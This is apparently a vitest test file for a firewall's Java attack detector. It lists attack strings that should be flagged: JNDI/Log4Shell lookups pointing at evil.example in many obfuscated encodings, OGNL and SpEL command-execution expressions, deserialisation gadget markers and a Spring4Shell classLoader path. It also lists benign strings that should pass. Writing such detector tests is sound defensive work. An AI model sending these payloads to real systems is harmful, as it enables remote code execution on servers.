// Java detector (rules 8000-8999): attack and benign tables at the default paranoia level.
import { beforeAll, describe, expect, it } from "vitest";
import { loadHarness, type Harness } from "../support/harness.js";
import { inspect, scanTargets } from "../support/engine.js";

let h: Harness;
beforeAll(async () => {
  h = await loadHarness();
});

interface Scan { score: number; matches: { id: number; category: string }[] }
const scan = (input: string, paranoia = 1): Scan => JSON.parse(h.callString("scanValue", input, paranoia));
const javaIds = (input: string, paranoia = 1) => scan(input, paranoia).matches.filter((m) => m.category === "java").map((m) => m.id);

// [input, a rule id expected to match]
const attacks: [string, number][] = [
  ["${jndi:ldap://evil.example/a}", 8100],
  ["${jndi:rmi://10.0.0.1:1099/x}", 8100],
  ["User agent ${ jndi:dns://x.example}", 8100],
  ["${${lower:j}ndi:ldap://evil.example/a}", 8100],
  ["${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}", 8100],
  ["${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x}", 8100],
  ["$${env:a:-${env:b:-$}{jndi:ldap://evil.example/w}}}", 8100],
  ["${${upper:j}${date:'n'}di:ldap://x}", 8100],
  ["%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", 8100],
  ["$\\u007Bjndi:ldap://evil.example/a}", 8100],
  ["$&lbrace;jndi:ldap://evil.example/a}", 8100],
  ["$\\u0026lbracejndi:ldap://evil.example/a}", 8100],
  ["&#x24;&#000000000123;jndi:ldap://evil.example/w}", 8100],
  ["%24&lcub;\\u006A&#110;di:ldap://evil.example/w}", 8100],
  ["${::-j}", 8101],
  ["%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):1)}", 8110],
  ["${T(java.lang.Runtime).getRuntime().exec('id')}", 8110],
  ["#{''.getClass().forName('java.lang.Runtime')}", 8110],
  ["(#cmd='whoami').(#p=new java.lang.ProcessBuilder(#cmd))", 8110],
  ["Class.forName (\"x\")", 8110],
  ["java.lang.Runtime", 8120],
  ["java.lang.String", 8120],
  ["JAVA.IO.FileOutputStream", 8120],
  ["javax.script.ScriptEngineManager", 8120],
  ["java.Runtime", 8120],
  ["java.evil.ProcessBuilder", 8120],
  ["org.apache.commons.collections.functors", 8121],
  ["com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", 8121],
  ["org.omg.CORBA", 8121],
  ["com.opensymphony.xwork2.ActionContext", 8121],
  ["InvokerTransformer", 8122],
  ["ProcessBuilder.evil.clonetransformer", 8122],
  ["runtime.whileclosure", 8122],
  ["rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ", 8130],
  ["KztAAU", 8130],
  ["Cs7QAF", 8130],
  ["ACED0005737200", 8130],
  ["\u00ac\u00ed\u0000\u0005", 0], // non-ASCII in a JS string is not raw bytes: checked in the request tests
  ["cnVudGltZQ", 8131],
  ["HJ1bnRpbWU", 8131],
  ["BydW50aW1l", 8131],
  ["cHJvY2Vzc2J1aWxkZXI=", 8131],
  ["aW52b2tlcnRyYW5zZm9ybWVy", 8131],
  ["class.module.classLoader.resources.context.parent.pipeline.first.pattern", 8140],
  ["class['classLoader'].resources", 8140],
  ['<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder">', 8150],
];

const benign: string[] = [
  "java.lang.NullPointerException", // a throwable type as an exception.type attribute or a log names it
  "javax.naming.NamingException",
  "java.lang.String is immutable, says the tutorial",
  "Use java.io.File to read a file and java.lang.Runtime for the JVM memory figures",
  "Hello ${HOME}, your build uses ${PORT:-3000}",
  "Set JAVA_HOME and run java -jar app.jar",
  "The runtime of this movie is two hours",
  "Our process builder helps teams",
  "console.log(`Hello ${process.env.HELLO}`)",
  "Slick's Three Laws:\\n\\t(1) Nothing travels faster than a bad check.",
  "com.example.myapp",
  "https://www.example.com/java/index.html",
  "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
  "d41d8cd98f00b204e9800998ecf8427e",
  "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
  "Transformers: the clone wars",
  "We welcome contributions; see CONTRIBUTING.md (section 3)",
  "T(42) is the 42nd triangular number",
  "Email me at john.doe@example.org",
];

describe("Java detector", () => {
  for (const [input, id] of attacks) {
    if (id === 0) continue;
    it(`flags ${JSON.stringify(input).slice(0, 70)} with ${id}`, () => {
      const r = scan(input);
      expect(javaIds(input)).toContain(id);
      expect(r.score).toBeGreaterThanOrEqual(5);
    });
  }
  for (const input of benign) {
    it(`leaves ${JSON.stringify(input).slice(0, 70)} alone`, () => {
      expect(javaIds(input)).toEqual([]);
    });
  }
  // Stack traces in error reports and logs name JDK classes as code locations (java/stack-frames.ts).
  it.each([
    "java.lang.NullPointerException: Cannot invoke \"String.length()\"\n\tat com.shop.Orders.total(Orders.java:42)\n\tat java.base/java.lang.Thread.run(Thread.java:840)",
    "Exception in thread \"main\" java.io.FileNotFoundException: a.yml\n\tat java.base/java.io.FileInputStream.open0(Native Method)\n\tat java.io.FileInputStream.<init>(Unknown Source)",
    "Caused by: java.lang.ClassNotFoundException: org.postgresql.Driver\n\tat java.net.URLClassLoader.findClass(URLClassLoader.java:382)\n\tat java.lang.ClassLoader.loadClass(ClassLoader.java:418)",
  ])("leaves a stack trace alone: %s", (trace) => {
    expect(javaIds(trace)).toEqual([]);
  });
  it.each([
    ["a payload after a stack trace", "\tat com.x.A.b(A.java:1)\n${T(java.lang.Runtime).getRuntime().exec('id')}"],
    ["a call dressed with a frame's location", "java.lang.Runtime.getRuntime().exec(\"id\") (Main.java:3)"],
  ])("still flags %s", (_, input) => {
    expect(javaIds(input).length).toBeGreaterThan(0);
  });
  it("treats ${VAR:-default} as shell-style defaults, not evasion", () => {
    expect(javaIds("${HOST:-localhost}:${PORT:-8080}")).toEqual([]);
  });
});

// Class names inside a slice cut out of a longer base64 stream, at each of the four alignments
// a slice can start at: the shortest names the detector knows (`sun.io`, `Runtime`) included.
describe("Java detector on base64 slices", () => {
  const names = ["sun.io.File", "Runtime", "com.sun.rowset.JdbcRowSetImpl", "java.lang.ProcessBuilder"];
  for (const name of names) {
    for (let cut = 1; cut <= 4; cut++) {
      const slice = Buffer.concat([Buffer.from([0xc3, 0x9f, 0x07]), Buffer.from(name + "\u0001")]).toString("base64").slice(cut);
      it(`flags ${name} encoded, cut at ${cut} (${slice})`, () => {
        expect(javaIds(slice).length).toBeGreaterThan(0);
        expect(scan(slice).score).toBeGreaterThanOrEqual(5);
      });
    }
  }
  it("leaves random tokens alone", () => {
    let seed = 7;
    const next = () => (seed = (seed * 1103515245 + 12345) & 0x7fffffff);
    for (let k = 0; k < 200; k++) {
      const bytes = Buffer.from(Array.from({ length: 30 + (k % 19) }, () => next() & 0xff));
      expect(javaIds(bytes.toString("base64url"))).toEqual([]);
    }
  });
});

// A path segment is a base64 run of its own: the `/` before it is the path's, not a letter of the stream.
describe("Java serialisation stream as a path segment", () => {
  const GADGET = "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3I";
  const fw = (v: string) => [...v].map((c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)).join("");
  it.each([
    ["a PriorityQueue gadget", `/files/${GADGET}`],
    ["the same under two segments", `/api/v1/import/${GADGET}/run`],
    ["full-width", `/files/${encodeURIComponent(fw(GADGET))}`],
  ])("flags %s", (_, path) => {
    expect(inspect(h, { path }).matches.map((m) => m.id)).toContain(8130);
  });
  it.each([
    "/files/rO0A-report.pdf",
    "/img/rOAB0/large.png",
    "/static/js/Cs7QAlias/app.js",
    "/files/KztAAb/x",
    "/x/" + Buffer.from("a longer base64 path segment, text only").toString("base64"),
  ])("leaves %s alone", (path) => {
    expect(inspect(h, { path }).matches.filter((m) => m.category === "java")).toEqual([]);
  });
});

describe("Java detector on request targets", () => {
  const targets = (list: [number, string, string][]) => scanTargets(h, list);
  it("flags a JSP upload named in an X-File-Name header", () => {
    const r = targets([[3, "header:x-file-name", "shell. jspx.."]]);
    expect(r.matches.map((m) => m.id)).toContain(8160);
  });
  it("flags a JSP multipart file name", () => {
    expect(targets([[9, "files", "a.jsp "]]).matches.map((m) => m.id)).toContain(8160);
  });
  it("ignores ordinary upload names", () => {
    expect(targets([[9, "files", "report.pdf"], [3, "header:x-filename", "notes.json"]]).score).toBe(0);
  });
  // Overlong (`%C0%AE` for `.`) and full-width forms are undone before the Java grammar reads the value
  const fullWidth = (v: string) => [...v].map((c) => (c > " " && c <= "~" ? String.fromCharCode(c.charCodeAt(0) + 0xfee0) : c)).join("");
  const overlong = (v: string) => [...v].map((c) => (/[A-Za-z0-9]/.test(c) ? c : `%${(0xc0 | (c.charCodeAt(0) >> 6)).toString(16)}%${(0x80 | (c.charCodeAt(0) & 63)).toString(16)}`)).join("");
  const OGNL = "%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'id'})).start()}";
  it.each([
    ["an overlong OGNL expression in the path", `/files/${overlong(OGNL)}`],
    ["an overlong OGNL expression in a query", `/x?q=${overlong(OGNL)}`],
    ["a full-width SpEL call in a query", `/x?q=${encodeURIComponent(fullWidth("T(java.lang.Runtime).getRuntime().exec('id')"))}`],
  ])("reads %s", (_, path) => {
    expect(inspect(h, { path, headers: [["host", "svc.local"]] }).matches.map((m) => m.id)).toEqual(expect.arrayContaining([8120]));
  });
  it.each([`/x?q=${encodeURIComponent(fullWidth("java.lang.String is final"))}`, `/docs/${overlong("java.util.List")}.html`])("passes %s", (path) => {
    expect(inspect(h, { path, headers: [["host", "svc.local"]] }).score).toBeLessThan(5);
  });
  it("ignores class names used as XML element names in a raw document", () => {
    const r = targets([[8, "body", '<?xml version="1.0"?><xml><java.lang.Runtime a="b">v</java.lang.Runtime></xml>']]);
    expect(r.matches.filter((m) => m.category === "java")).toEqual([]);
  });
});

describe("layered unescaping and base64 used by the code detectors", () => {
  const cases: [string, string][] = [
    ["%24%7Bx%7D", "${x}"],
    ["\\u0024\\u007b", "${"],
    ["&#36;&#x7B;&lbrace;&LBRACE;&lcub", "${{{{"],
    ["\\u002524", "$"],
    ["plain text", "plain text"],
    ["%zz&bogus;\\q", "%zz&bogus;\\q"],
  ];
  for (const [input, want] of cases) {
    it(`unescapes ${JSON.stringify(input)}`, () => {
      expect(h.callString("unescapeForCode", input)).toBe(want);
    });
  }
  // every named reference the code detectors decode, in either case and with or without `;` (`&commat;`: below)
  const entities: [string, string][] = [
    ["lbrace", "{"], ["lcub", "{"], ["rbrace", "}"], ["rcub", "}"], ["dollar", "$"], ["colon", ":"], ["quot", '"'],
    ["apos", "'"], ["lpar", "("], ["rpar", ")"], ["lsqb", "["], ["lbrack", "["], ["rsqb", "]"], ["rbrack", "]"],
    ["period", "."], ["num", "#"], ["percnt", "%"], ["bsol", "\\"], ["sol", "/"], ["semi", ";"], ["comma", ","],
    ["equals", "="], ["excl", "!"], ["lowbar", "_"], ["verbar", "|"], ["grave", "`"], ["lt", "<"],
    ["gt", ">"], ["amp", "&"], ["nbsp", " "], ["tab", "\t"], ["newline", "\n"],
  ];
  it("decodes every named reference, in either case, with or without ';'", () => {
    for (const [name, ch] of entities) {
      expect(h.callString("unescapeForCode", `x&${name};y`)).toBe(`x${ch}y`);
      expect(h.callString("unescapeForCode", `x&${name.toUpperCase()}y`)).toBe(`x${ch}y`);
    }
  });
  it("leaves a '&' that opens no reference as it is, however many", () => {
    for (const input of ["a && b || c", "Tom & Jerry", "&", "x&", "&&&;", "a&1;b", "a&_lt;", "q=1&z=2&k=3", "&xyz;&zzz"]) {
      expect(h.callString("unescapeForCode", input)).toBe(input);
    }
    // `&commat;` is read as `&comma` and `t;` (the list's order), as before
    expect(h.callString("unescapeForCode", "a&commat;b")).toBe("a,t;b");
  });
  it("unescapes long values as short ones (past its 4 KiB scratch buffer, and at its edge)", () => {
    for (const n of [4094, 4095, 4096, 4097, 9000]) {
      const pad = "p".repeat(n - 14);
      expect(h.callString("unescapeForCode", pad + "%24&#x7B;x&rcub")).toBe(pad + "${x}");
      const plain = "a && b ".repeat(Math.ceil(n / 7)).slice(0, n);
      expect(h.callString("unescapeForCode", plain)).toBe(plain);
    }
  });
  it("decodes base64 slices at each alignment", () => {
    expect(h.callString("base64Shifted", "cnVudGltZQ", 0)).toBe("runtime");
    expect(h.callString("base64Shifted", "HJ1bnRpbWU", 1).slice(1)).toBe("runtime");
    expect(h.callString("base64Shifted", "BydW50aW1l", 2).slice(1)).toBe("runtime");
  });
});

describe("no trap on random input", () => {
  it("survives random bytes and deep nesting", () => {
    let seed = 12345;
    const rnd = () => ((seed = (seed * 1103515245 + 12345) & 0x7fffffff) / 0x7fffffff);
    const alphabet = "${}:-jndi%\\u&#;x0123456789abcdefABCDEF.()#@<>'\"/ \t\n";
    for (let k = 0; k < 300; k++) {
      let s = "";
      const len = Math.floor(rnd() * 200);
      for (let i = 0; i < len; i++) s += rnd() < 0.8 ? alphabet[Math.floor(rnd() * alphabet.length)] : String.fromCharCode(Math.floor(rnd() * 0x2ff));
      expect(() => scan(s)).not.toThrow();
    }
    expect(() => scan("${".repeat(2000) + "}".repeat(2000))).not.toThrow();
  });
});
